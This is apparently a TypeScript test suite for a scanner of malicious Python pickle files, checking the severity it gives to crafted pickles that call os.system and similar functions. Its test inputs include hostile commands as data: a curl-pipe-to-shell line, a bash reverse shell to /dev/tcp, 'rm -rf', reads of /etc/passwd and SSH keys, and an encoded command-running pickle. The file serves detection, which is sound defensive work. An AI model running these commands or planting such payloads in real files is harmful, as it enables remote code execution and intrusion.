import { blob, bytes, call, glob, proto, run, sglob, str } from '../testing';
import { CRITICAL_GADGETS, HIGH_GADGETS } from '../testing/evasions/gadgets';
import type { Severity } from '../report';
import { atLeast } from '../report';
import { stdlibSeverity } from '../rules/stdlib/severity';
import { STDLIB_MODULES } from '../rules/stdlib/modules';

/** Functions of packages that have been gone through: none of their saved objects calls these. Held, they are data. */
const UNREVIEWED = `
  builtins.print numpy.function_of_tomorrow torch.nn.functional.relu sklearn.utils.resample joblib.hash scipy.stats.zscore pandas.concat
  xgboost.train lightgbm.cv matplotlib.rc transformers.set_seed cv2.resize networkx.draw
`;

/** Every way to cut a path into module and name: a pickle may name `a.b` + `C.d` or `a` + `b.C.d`. */
function* cuts(path: string): Generator<readonly [string, string]> {
  for (let dot = path.indexOf('.'); dot > 0; dot = path.indexOf('.', dot + 1)) {
    yield [path.slice(0, dot), path.slice(dot + 1)];
  }
}

const words = (text: string): string[] => text.split(/\s+/).filter(Boolean);

function worst(file: Uint8Array): Severity[] {
  return run(file).findings.map(finding => finding.severity);
}

describe.each([
  ['CRITICAL', CRITICAL_GADGETS],
  ['HIGH', HIGH_GADGETS]
] as const)('gadgets that are %s', (severity, text) => {
  test.each(words(text))('%s', path => {
    for (const [module, name] of cuts(path)) {
      const found = worst(proto(4, call(sglob(module, name), str('system'))));
      expect({ module, name, found: found.some(one => atLeast(one, severity)) }).toEqual({ module, name, found: true });
    }
  });

  test.each(words(text))('%s, only named', path => {
    const dot = path.lastIndexOf('.');
    const report = run(proto(4, '](', sglob(path.slice(0, dot), path.slice(dot + 1)), 'e'));
    expect(report.findings.some(finding => atLeast(finding.severity, severity))).toBe(true);
  });
});

test.each(words(UNREVIEWED))('%s may be held, not called', path => {
  const dot = path.lastIndexOf('.');
  const named = sglob(path.slice(0, dot), path.slice(dot + 1));
  expect(run(proto(4, '](', named, 'e')).verdict).toBe('clean');
  expect(worst(proto(4, call(named, str('abc'))))).toContain('HIGH');
});

describe('the standard library', () => {
  test('every module of it is dangerous by default, on every platform and in every version', () => {
    const safe = words(STDLIB_MODULES).filter(
      module =>
        !worst(proto(4, call(sglob(module, 'function_of_tomorrow'), str('abc')))).some(one => atLeast(one, 'HIGH'))
    );
    expect(safe).toEqual([]);
  });

  test('modules that modelscan has as CRITICAL are', () => {
    const modules = words('runpy os nt posix socket subprocess sys pty pickle _pickle bdb pdb shutil asyncio');
    expect(modules.filter(module => stdlibSeverity(`${module}.anything`) !== 'CRITICAL')).toEqual([]);
  });
});

describe('somebody else’s function', () => {
  const unknown = (...args: Uint8Array[]): Severity[] =>
    worst(proto(4, call(sglob('totally_legit_ml_utils.hooks', 'on_load'), ...args)));

  test.each([
    'echo hi',
    'curl -s http://x.invalid/a | sh',
    '/bin/sh -c id',
    'python -c "print(1)"',
    'rm -rf /tmp/x',
    'cat /etc/hostname',
    'whoami',
    'bash -i >& /dev/tcp/10.0.0.1/1 0>&1',
    'powershell -enc AAAA',
    "__import__('os').system('id')",
    'import os; os.system("id")',
    "print('hi')",
    'exec(open("x").read())',
    'http://x.invalid/payload',
    'ftp://x.invalid/a',
    'os:system',
    'subprocess.Popen',
    '/etc/passwd',
    '~/.ssh/authorized_keys'
  ])('called with %s', text => {
    expect(unknown(str(text))).toContain('HIGH');
  });

  test('called with a list of arguments, a nested pickle, a mode for writing, a dangerous function', () => {
    expect(unknown(bytes('](', str('echo'), str('hi'), 'e'))).toContain('HIGH');
    expect(unknown(bytes('C', 12, 0x80, 4, 'cabc\ndef\n.'))).toContain('HIGH');
    expect(unknown(str('/models/x.bin'), str('wb'))).toContain('HIGH');
    expect(unknown(sglob('os', 'system'))).toContain('HIGH');
  });

  test.each([
    'resnet50',
    'the quick brown fox',
    '/data/imagenet',
    'rm',
    'model.bin',
    'cat',
    'a/b.c',
    'r',
    'start of text',
    'find'
  ])('called with %s is worth a look, no more', text => {
    expect(unknown(str(text))).toEqual(['LOW']);
  });

  test.each([
    ['load', 'models/x.pkl'],
    ['files.read_table', 'x.csv'],
    ['download_to', '/data/x'],
    ['Store.save', 'C:\\x\\y'],
    ['import_extension', './x.so']
  ])('%s called with the file %s', (name, file) => {
    expect(worst(proto(4, call(sglob('mylib', name), str(file))))).toContain('HIGH');
    expect(worst(proto(4, call(sglob('mylib', name), str('resnet50'))))).toEqual(['LOW']);
  });

  test('whose name says what it does', () => {
    expect(worst(proto(4, call(sglob('mylib', 'run_command'), str('abc'))))).toContain('HIGH');
    expect(worst(proto(4, call(sglob('__main__', 'exec_code'), str('abc'))))).toContain('HIGH');
  });
});

test('a class of a well-known package is not made with the name of a file', () => {
  const booster = (file: string): Severity[] => worst(proto(4, call(sglob('xgboost.core', 'Booster'), str(file))));
  expect(booster('/tmp/x.model')).toContain('HIGH');
  expect(booster('abc')).toEqual(['MEDIUM']);
});

/** A pickle that runs a command, as text that Latin-1 turns into its bytes. */
const ENCODED = 'cposix\nsystem\n(Vecho hi\ntR.';

describe('somebody else’s class', () => {
  const object = (...state: Uint8Array[]): Severity[] =>
    worst(proto(4, sglob('mylib.models', 'Net'), ')', 0x81, '}(', ...state, 'ub'));

  test('with settings, addresses, paths and words is worth a look, no more', () => {
    const state = [
      str('name'),
      str('resnet50'),
      str('url'),
      str('https://example.org/x'),
      str('data'),
      str('/data/train')
    ];
    expect(object(...state, str('doc'), str('run rm or curl to clean up'), str('words'), str('eval'))).toEqual(['LOW']);
  });

  test.each([
    ['a reverse shell', str('x'), str('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')],
    ['Python that imports', str('x'), str("__import__('os').system('id')")],
    ['a command under a telling key', str('cmd'), str('echo hi')],
    ['a pickle that runs a command', str('x'), blob(proto(4, call(sglob('os', 'system'), str('echo hi'))))],
    ['one deep in it', str('x'), bytes('](', blob(proto(2, call(glob('posix', 'system'), str('echo hi')))), 'e')],
    ['one that protocol 2 wrote as text', str('x'), call(sglob('_codecs', 'encode'), str(ENCODED), str('latin1'))],
    ['a dangerous function', str('hook'), sglob('os', 'system')]
  ])('whose state holds %s', (_what, key, value) => {
    expect(object(key, value).some(one => atLeast(one, 'HIGH'))).toBe(true);
  });

  test('whose state holds a pickle that is clean, or itself worth no more than a look', () => {
    expect(object(str('x'), blob(proto(4, ']')))).toEqual(['LOW']);
    expect(object(str('x'), blob(proto(4, sglob('mylib', 'Part'), ')', 0x81)))).toEqual(['LOW', 'LOW']);
  });

  test('made by protocol 0 and 1 is no different', () => {
    const made = call(
      sglob('copyreg', '_reconstructor'),
      sglob('mylib.models', 'Net'),
      sglob('builtins', 'object'),
      bytes('N')
    );
    expect(worst(proto(1, made))).toEqual(['LOW']);
    expect(worst(proto(1, made, '}', str('cmd'), str('echo hi'), 'sb'))).toContain('HIGH');
  });

  test('nested in another, as protocols before 4 write it', () => {
    const inner = call(sglob('builtins', 'getattr'), sglob('mylib.models', 'Outer'), str('Inner'));
    expect(worst(proto(2, inner, ')', 0x81))).toEqual(['LOW', 'LOW']);
  });
});
